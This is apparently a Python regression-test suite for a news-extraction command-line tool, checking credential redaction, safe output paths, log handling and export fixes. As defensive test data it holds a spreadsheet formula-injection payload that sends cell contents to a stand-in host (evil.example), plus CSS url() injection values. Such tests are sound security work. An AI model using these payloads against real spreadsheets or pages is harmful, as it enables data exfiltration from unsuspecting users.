"""Regression tests for issue 20 (hardening, round 2): each failed before its fix."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from extract.cli import app
from tests.conftest import quote
from tests.test_batch import write_articles

runner = CliRunner()


def test_credentials_in_the_base_url_reach_no_sink(fake_server: Any, tmp_path: Path) -> None:
    """Item 3: `user:pass@host` reached the call log (its endpoint), and a server echoing the
    credentials without the port reached stderr, --failures and --ledger."""

    def echo(request: dict[str, Any]) -> tuple[int, str]:
        return 500, "bad request for http://alice:s3cret-pw@127.0.0.1/v1 (alice:s3cret-pw)"

    server = fake_server(echo)
    url = server.base_url.replace("http://", "http://alice:s3cret-pw@")
    folder, out = write_articles(tmp_path / "in", 1), tmp_path / "r.jsonl"
    cache, failures, ledger = tmp_path / "cache", tmp_path / "f.tsv", tmp_path / "l.json"
    args = [
        "run",
        str(folder),
        "-o",
        str(out),
        "--base-url",
        url,
        "--model",
        "fake",
        "--retries",
        "0",
        "--cache-dir",
        str(cache),
        "--failures",
        str(failures),
        "--ledger",
        str(ledger),
    ]
    result = runner.invoke(app, args)
    assert "failed" in result.output
    logged = runner.invoke(app, ["logs", "--json", "--cache-dir", str(cache)])
    assert logged.exit_code == 0 and "127.0.0.1" in logged.output
    sinks = {
        "stderr": result.output,
        "logs": logged.output,
        "calls.jsonl": (cache / "logs" / "calls.jsonl").read_text(),
        "failures": failures.read_text(),
        "ledger": ledger.read_text(),
    }
    assert [name for name, text in sinks.items() if "s3cret-pw" in text] == []


def _rules_run(tmp_path: Path) -> tuple[Path, Path]:
    """An input file and the records of a rules run over it."""
    data = tmp_path / "articles.jsonl"
    data.write_text(json.dumps({"id": "a", "text": 'Kerry said "we talked" in London on Friday.'}) + "\n")
    out = tmp_path / "records.jsonl"
    result = runner.invoke(app, ["run", str(data), "-o", str(out), "--strategy", "rules", "--no-cache"])
    assert result.exit_code == 0, result.output
    return data, out


def test_no_command_writes_over_its_inputs_or_its_other_outputs(tmp_path: Path) -> None:
    """Item 4: only `run -o` was checked against the inputs, by path; report/merge -o, --ledger and
    --failures overwrote inputs and records, and a hard link to the input was truncated."""
    data, out = _rules_run(tmp_path)
    kept = {p: p.read_bytes() for p in (data, out)}
    link = tmp_path / "link.jsonl"
    link.hardlink_to(data)
    run = ["run", str(data), "--strategy", "rules", "--no-cache"]
    refused = [
        ["report", str(out), "-o", str(out)],
        ["merge", str(out), "-o", str(out)],
        ["export", str(out), "--kind", "quotes", "-o", str(out)],
        [*run, "-o", str(tmp_path / "new.jsonl"), "--ledger", str(tmp_path / "new.jsonl")],
        [
            *run,
            "-o",
            str(tmp_path / "r2.jsonl"),
            "--failures",
            str(tmp_path / "f"),
            "--ledger",
            str(tmp_path / "f"),
        ],
        [*run, "-o", str(tmp_path / "r3.jsonl"), "--failures", str(data)],
        [*run, "-o", str(tmp_path / "r4.jsonl"), "--ledger", str(data)],
        [*run, "-o", str(link), "--overwrite"],
        ["run", str(link), "--strategy", "rules", "--no-cache", "-o", str(data), "--overwrite"],
    ]
    for args in refused:
        result = runner.invoke(app, args)
        assert result.exit_code == 2, (args, result.output)
        assert len(result.output.strip().splitlines()) == 1, result.output
        assert {p: p.read_bytes() for p in kept} == kept, args


def test_outputs_are_written_whole_or_not_at_all(tmp_path: Path) -> None:
    """Item 4: a write that fails half-way leaves the file as it was (temporary file, renamed)."""
    from extract.inputs.guard import atomic

    target = tmp_path / "report.html"
    target.write_text("old")
    try:
        with atomic(target) as temp:
            temp.write_text("half")
            raise OSError(28, "No space left on device")
    except OSError:
        pass
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]
    with atomic(target) as temp:
        temp.write_text("new")
    assert target.read_text() == "new" and list(tmp_path.iterdir()) == [target]


CASUALTY = '''
from typing import Annotated
from pydantic import BaseModel, Field
from extract.schemas import Verbatim


class Casualty(BaseModel):
    """Casualty figures the article reports."""

    span: Annotated[str, Verbatim] = Field(description="The words stating the figure.")
    {extra}
'''


def test_resume_refuses_records_of_other_kinds(fake_server: Any, tmp_path: Path) -> None:
    """Item 5: after the schema file gained a field, or with another --schema, the run said
    "already done" and kept the old records."""
    server = fake_server(lambda request: (200, json.dumps({"casualty": []})))
    schema = tmp_path / "kinds.py"
    schema.write_text(CASUALTY.format(extra=""))
    folder, out = write_articles(tmp_path / "in", 1), tmp_path / "r.jsonl"
    args = [
        "run",
        str(folder),
        "-o",
        str(out),
        "--base-url",
        server.base_url,
        "--model",
        "fake",
        "--no-cache",
        "--strategy",
        "whole",
    ]
    first = runner.invoke(app, [*args, "--schema", f"{schema}:Casualty"])
    assert first.exit_code == 0, first.output
    schema.write_text(CASUALTY.format(extra='count: int = Field(0, description="How many people.")'))
    edited = runner.invoke(app, [*args, "--schema", f"{schema}:Casualty"])
    assert edited.exit_code == 2 and "other kinds" in edited.output, edited.output
    other = runner.invoke(app, [*args, "--schema", f"{schema}:Casualty", "--schema", "news"])
    assert other.exit_code == 2 and "other kinds" in other.output, other.output


def test_an_incomplete_record_is_asked_again_and_replaced(fake_server: Any, tmp_path: Path) -> None:
    """Item 6: one paragraph's HTTP 500 ended the whole model pass, and the re-run skipped the
    incomplete record (0 requests) although the README says the next run asks again."""
    failing = {"on": True}

    def script(request: dict[str, Any]) -> tuple[int, str]:
        if failing["on"]:
            failing["on"] = False
            return 500, "boom"
        return 200, json.dumps({"quotes": []})

    server = fake_server(script)
    data = tmp_path / "a.txt"
    data.write_text("The first part of the story, he believes.\n\nThe second part, she believes.")
    out = tmp_path / "r.jsonl"
    args = [
        "run",
        str(data),
        "-o",
        str(out),
        "--base-url",
        server.base_url,
        "--model",
        "fake",
        "--retries",
        "0",
        "--cache-dir",
        str(tmp_path / "c"),
        # The paragraph pass over quotes (the default's news kinds ask the model no paragraph).
        "--strategy",
        "paragraph",
        "--schema",
        "news:quotes",
    ]
    first = runner.invoke(app, args)
    assert first.exit_code == 0, first.output
    assert len(server.requests) == 2  # the second paragraph is still asked
    assert json.loads(out.read_text())["usage"]["incomplete"] == 1
    again = runner.invoke(app, args)
    assert again.exit_code == 0, again.output
    assert len(server.requests) == 3  # the failed paragraph again (the other's answer is cached)
    lines = out.read_text().splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["usage"]["incomplete"] == 0


def test_a_user_kind_named_like_a_news_kind_is_refused_once(tmp_path: Path) -> None:
    """Item 7: a user kind named `quotes` was dropped silently beside --schema news. (Alone it is
    the run's only `quotes`: kinds are passed, not registered, since main dropped the registry.)"""
    from pydantic import BaseModel

    from extract.errors import ExtractError
    from extract.kinds import resolve

    schema = tmp_path / "mine.py"
    schema.write_text(CASUALTY.format(extra="").replace("class Casualty", "class Quotes"))
    data = tmp_path / "a.txt"
    data.write_text("Kerry met Lavrov in London on Friday.")
    for specs in (["news", f"{schema}:Quotes"], [f"{schema}:Quotes", "news:quotes"]):
        args = [
            "run",
            str(data),
            "-o",
            str(tmp_path / "r.jsonl"),
            "--strategy",
            "whole",
            "--no-cache",
            "--base-url",
            "http://127.0.0.1:9/v1",
            "--model",
            "m",
        ]
        result = runner.invoke(app, [*args, *(x for s in specs for x in ("--schema", s))])
        assert result.exit_code == 2, result.output
        assert "quotes" in result.output and "news" in result.output
        assert len(result.output.strip().splitlines()) == 1

    class Quotes(BaseModel):
        """Mine."""

        said: str

    assert [k.name for k in resolve([Quotes])] == ["quotes"]
    try:
        resolve(["news", Quotes])
    except ExtractError as exc:
        assert "quotes" in str(exc) and "news" in str(exc)
    else:
        raise AssertionError("two kinds named quotes were accepted")


VALIDATED = '''
from typing import Annotated
from pydantic import BaseModel, Field, field_validator
from extract.schemas import Verbatim


class Casualty(BaseModel):
    """Casualty figures the article reports."""

    span: Annotated[str, Verbatim] = Field(description="The words stating the figure.")
    count: int = Field(description="How many people.")

    @field_validator("count")
    @classmethod
    def positive(cls, value: int) -> int:
        if value < 1:
            raise ValueError("a count is at least 1")
        return value
'''


def test_an_item_a_validator_rejects_is_dropped_alone(fake_server: Any, tmp_path: Path) -> None:
    """Item 8: one item a validator rejected failed the whole article under `whole` (reason
    `<failed_attempts>`), its valid items of other kinds lost."""
    text = 'Kerry said "we talked" in London. Three people died.'

    def script(request: dict[str, Any]) -> tuple[int, str]:
        died = "Three people died"
        found = {
            "quotes": [quote("we talked")],
            "casualty": [{"span": died, "count": 0}, {"span": died, "count": 3}],
        }
        return 200, json.dumps(found)

    server = fake_server(script)
    schema = tmp_path / "kinds.py"
    schema.write_text(VALIDATED)
    data, out = tmp_path / "a.txt", tmp_path / "r.jsonl"
    data.write_text(text)
    args = [
        "run",
        str(data),
        "-o",
        str(out),
        "--base-url",
        server.base_url,
        "--model",
        "fake",
        "--no-cache",
        "--strategy",
        "whole",
        "--schema",
        "news:quotes",
        "--schema",
        f"{schema}:Casualty",
    ]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert "a count is at least 1" in result.output and "<failed" not in result.output
    rec = json.loads(out.read_text())
    assert [q["text"] for q in rec["items"]["quotes"]] == ["we talked"]
    assert [c["count"] for c in rec["items"]["casualty"]] == [3]
    assert rec["usage"]["rejected"] == 1 and rec["usage"]["reasks"] == 1 and len(server.requests) == 2


def test_an_answer_that_fails_validation_says_why_in_one_line(fake_server: Any, tmp_path: Path) -> None:
    """Item 8: the reason printed was instructor's `<failed_attempts>` dump."""
    server = fake_server(lambda request: (200, json.dumps({"quotes": "not a list"})))
    data, failures = tmp_path / "a.txt", tmp_path / "f.tsv"
    data.write_text("Kerry met Lavrov in London on Friday.")
    args = [
        "run",
        str(data),
        "-o",
        str(tmp_path / "r.jsonl"),
        "--base-url",
        server.base_url,
        "--model",
        "fake",
        "--no-cache",
        "--strategy",
        "whole",
        "--schema",
        "news:quotes",
        "--failures",
        str(failures),
    ]
    result = runner.invoke(app, args)
    reason = failures.read_text()
    assert "failed validation after 3 attempts: quotes: " in reason and "<" not in reason, result.output


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _formula_records(tmp_path: Path) -> Path:
    """A record whose cells come from a hostile article: formulas in its id, meta and quote."""
    from extract.schemas import SCHEMA_VERSION

    evidence = FORMULA + " " + "x" * 40000
    item = {
        "evidence": evidence,
        "start": 0,
        "end": len(evidence),
        "text": evidence,
        "cue": "said",
        "direct": True,
        "speaker": {"name": "@Kerry", "kind": "person"},
    }
    rec = {
        "schema_version": SCHEMA_VERSION,
        "article_id": "@evil",
        "source": "-a.txt",
        "text_sha256": "h",
        "meta": {"outlet": "-2+3"},
        "items": {"quotes": [item]},
        "model": "m",
        "strategy": "s",
        "prompt_version": "p",
    }
    out = tmp_path / "r.jsonl"
    out.write_text(json.dumps(rec) + "\n")
    return out


def test_csv_cells_from_article_text_cannot_be_formulas(tmp_path: Path) -> None:
    """Item 9: cells starting with = + - @ (tab, CR) were exported as they were (formula
    injection); cells are now neutralised (OWASP) unless --raw-cells, and capped for Excel."""
    import csv

    out = _formula_records(tmp_path)
    csv_path = tmp_path / "q.csv"
    for kind in ("quotes",):
        result = runner.invoke(app, ["export", str(out), "--kind", kind, "-o", str(csv_path)])
        assert result.exit_code == 0, result.output
        cells = [c for row in csv.reader(csv_path.open(encoding="utf-8")) for c in row]
        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], kind
        assert max(len(c) for c in cells) <= 32767
    assert "'@evil" in csv_path.read_text(encoding="utf-8")
    raw = runner.invoke(app, ["export", str(out), "--kind", "quotes", "-o", str(csv_path), "--raw-cells"])
    assert raw.exit_code == 0 and "\n@evil," in csv_path.read_text(encoding="utf-8")


def test_the_report_csv_download_neutralises_formulas(tmp_path: Path) -> None:
    """Item 9: the report's CSV download quoted cells but let formulas through."""
    import re
    import shutil
    import subprocess

    import pytest

    from extract.analysis.report import PAGE

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    cell = re.search(r"function cell\(v\) \{\{(.*?)\}\}\n", PAGE, re.S)
    assert cell is not None
    script = "function cell(v) {" + cell.group(1).replace("{{", "{").replace("}}", "}") + "}\n"
    script += (
        "console.log(JSON.stringify(['=1+1', '@x', '-2', '\\tx', 'plain', 'y'.repeat(40000)].map(cell)))"
    )
    shown = json.loads(
        subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout
    )
    assert shown[:5] == ['"\'=1+1"', '"\'@x"', '"\'-2"', '"\'\tx"', '"plain"']
    assert len(shown[5]) <= 32767 + 2


def _dies_on_three(n: int) -> int:
    """A worker function whose process dies on item 3 (as a killed or crashed worker does)."""
    import os
    import time

    if n == 3:
        os._exit(1)
    if n == 5:
        time.sleep(60)  # hangs
    return n * 10


def test_a_dead_or_hung_worker_fails_its_article_and_the_batch_goes_on() -> None:
    """Item 10: a dead worker process ended the batch with an 86-line BrokenProcessPool
    traceback, and nothing caught a hung one."""
    import multiprocessing
    import time
    from concurrent.futures import ProcessPoolExecutor

    from extract.run.workers import completed_in_processes

    def pool(workers: int) -> ProcessPoolExecutor:
        return ProcessPoolExecutor(workers, mp_context=multiprocessing.get_context("spawn"))

    started = time.monotonic()
    results = list(
        completed_in_processes(
            _dies_on_three, range(8), 2, pool, lost=lambda n, why: f"{n}: {why}", limit=5.0
        )
    )
    assert sorted(r for r in results if isinstance(r, int)) == [0, 10, 20, 40, 60, 70]
    failed = sorted(r for r in results if isinstance(r, str))
    assert len(failed) == 2 and failed[0].startswith("3: ") and "died" in failed[0]
    assert failed[1].startswith("5: ") and "time limit" in failed[1]
    assert time.monotonic() - started < 50


def test_logs_survive_odd_lines_read_from_the_end_and_rotate(tmp_path: Path, monkeypatch: Any) -> None:
    """Item 11: lines that are JSON but not objects crashed `extract logs`; a call holding U+2028
    vanished (split by str.splitlines); the log grew without bound and was read whole."""
    from extract.providers import calllog
    from extract.providers.calllog import Logged, call_log
    from extract.providers.none import NoModel

    cache = tmp_path / "cache"
    log = call_log(cache)
    log.parent.mkdir(parents=True)
    call = {
        "time": "t",
        "model": "m",
        "prompt_version": "p",
        "messages": [{"role": "user", "content": "a\u2028b"}],
    }
    lines = ["[1, 2]", '"text"', "5", "null", json.dumps(call, ensure_ascii=False), "{torn"]
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    listed = runner.invoke(app, ["logs", "--json", "--cache-dir", str(cache)])
    assert listed.exit_code == 0, listed.output
    assert [json.loads(x)["messages"][0]["content"] for x in listed.output.split("\n") if x] == ["a\u2028b"]
    table = runner.invoke(app, ["logs", "-n", "1", "--cache-dir", str(cache)])
    assert table.exit_code == 0 and " 5 " in table.output, table.output  # numbered by line
    shown = runner.invoke(app, ["logs", "--show", "5", "--cache-dir", str(cache)])
    assert shown.exit_code == 0 and '"model": "m"' in shown.output, shown.output

    monkeypatch.setattr(calllog, "MAX_LOG_BYTES", 2000)
    logged = Logged(NoModel(), log)
    for n in range(40):
        logged._write({**call, "n": n})
    assert log.stat().st_size <= 2000 + 400
    older = log.with_name(log.name + ".1")
    assert older.is_file() and older.stat().st_size <= 2000 + 400
    newest = runner.invoke(app, ["logs", "--json", "-n", "1", "--cache-dir", str(cache)])
    assert json.loads(newest.output)["n"] == 39


def test_a_kind_colour_is_a_colour_and_kind_names_make_safe_classes() -> None:
    """Item 14: a kind's colour reached the legend's style unfiltered (`url(...)` makes the page
    call out), and a kind name with spaces added CSS classes."""
    import dataclasses

    import pytest
    from pydantic import BaseModel

    from extract.analysis.report import kind_controls, kind_style, render
    from extract.schemas import ArticleRecord, kind_of

    class Claim(BaseModel):
        """A claim."""

        said: str

    with pytest.raises(ValueError, match="colour"):
        kind_of(Claim, colour="url(http://evil.example/x)")
    good = kind_of(Claim, name="big claim item", colour="#A1b")
    assert good.colour == "#aa11bb"
    bad = dataclasses.replace(good, colour="red;background:url(http://evil.example/x)")
    declared = {bad.name: bad}
    item = {"said": "x", "evidence": "Hello", "start": 0, "end": 5}
    data = {
        "article_id": "a",
        "source": "a.txt",
        "text_sha256": "h",
        "items": {bad.name: [item]},
        "model": "m",
        "strategy": "s",
        "prompt_version": "p",
    }
    rec = ArticleRecord.load(data, [bad])
    page = render([rec], {"h": "Hello world"}, None, [bad])
    styles = kind_controls((bad.name,), declared) + kind_style((bad.name,), declared)
    assert "url(" not in page and "url(" not in styles
    assert "k-big claim" not in page and 'class="item k-big' in page


def test_odd_schemas_and_inputs_are_one_line_each(tmp_path: Path) -> None:
    """Item 13: a schema with an unresolved forward reference or a Callable field, a schema file
    calling sys.exit(0) (exited 0, silently), a bad example (its reason cut to its first line)
    and texts with metadata that is not JSON crashed or stopped the batch."""
    from extract import extract_batch
    from extract.errors import ArticleError, ExtractError
    from extract.kinds import resolve

    header = "from typing import Callable, ClassVar\nfrom pydantic import BaseModel\n"
    files = {
        "forward": 'class K(BaseModel):\n    """K."""\n    a: "Missing"\n',
        "callable": 'class K(BaseModel):\n    """K."""\n    a: Callable[[int], int]\n',
        "exits": "import sys\nsys.exit(0)\n",
        "example": 'class K(BaseModel):\n    """K."""\n    a: int\n'
        '    examples: ClassVar[list[dict]] = [{"text": "t", "items": [{"a": "x"}]}]\n',
    }
    for name, body in files.items():
        path = tmp_path / f"{name}.py"
        path.write_text(header + body)
        try:
            resolve([f"{path}:K"])
        except ExtractError as exc:
            assert "\n" not in str(exc) and str(path) in str(exc), (name, str(exc))
            if name == "example":
                assert "a: " in str(exc) and "integer" in str(exc)
        else:
            raise AssertionError(f"{name} was accepted")
    texts = [
        {"text": "Kerry met Lavrov in London on Friday.", "when": object()},
        {"text": "Lavrov met Kerry in Geneva on Monday."},
    ]
    results = list(extract_batch(texts=texts, strategy="rules", cache_dir=None))
    assert isinstance(results[0], ArticleError) and "JSON" in results[0].reason
    assert not isinstance(results[1], ArticleError)


def test_parquet_export_of_a_mixed_column(tmp_path: Path) -> None:
    """Item 13: a column mixing numbers and strings (a meta field) crashed the Parquet export."""
    import pytest

    pytest.importorskip("pyarrow")
    data, out = tmp_path / "a.jsonl", tmp_path / "r.jsonl"
    lines = [
        {"id": "a", "text": "Kerry met Lavrov in London on Friday.", "page": 5},
        {"id": "b", "text": "Lavrov met Kerry in Geneva on Monday.", "page": "A5"},
    ]
    data.write_text("".join(json.dumps(x) + "\n" for x in lines))
    assert (
        runner.invoke(app, ["run", str(data), "-o", str(out), "--strategy", "rules", "--no-cache"]).exit_code
        == 0
    )
    result = runner.invoke(app, ["export", str(out), "--kind", "events", "-o", str(tmp_path / "e.parquet")])
    assert result.exit_code == 0, result.output
    import pandas as pd

    assert sorted(pd.read_parquet(tmp_path / "e.parquet")["meta_page"]) == ["5", "A5"]


def test_ray_actors_get_the_whole_article_and_report_a_budget_stop(fake_server: Any) -> None:
    """Also (Ray): actors rebuilt each Article from id, source and text (meta and encoding lost),
    and a budget stop on an actor came back as an ordinary failure."""
    from extract import RunConfig
    from extract.errors import NotStarted
    from extract.inputs.load import Article
    from extract.run.ray_engine import _Worker, as_row, result_of
    from extract.schemas import ArticleRecord

    article = Article("a", "a.jsonl:1", "Kerry met Lavrov in London on Friday.", "latin-1", {"outlet": "X"})
    batch = {k: [v] for k, v in as_row(article).items()}
    [row] = _rows(_Worker(RunConfig(strategy="rules", cache_dir=None))(batch))
    rec = result_of(row, [])
    assert isinstance(rec, ArticleRecord) and rec.meta == {"outlet": "X"} and rec.encoding == "latin-1"

    server = fake_server(lambda request: (200, json.dumps({"quotes": [quote("words not in the text")]})))
    config = RunConfig(
        strategy="whole",
        base_url=server.base_url,
        model="fake",
        cache_dir=None,
        max_calls=1,
        schema=("news:quotes",),
    )
    [row] = _rows(_Worker(config)(batch))
    assert isinstance(result_of(row, []), NotStarted), row


def _rows(columns: dict[str, list[str]]) -> list[dict[str, str]]:
    return [dict(zip(columns, values, strict=True)) for values in zip(*columns.values(), strict=True)]
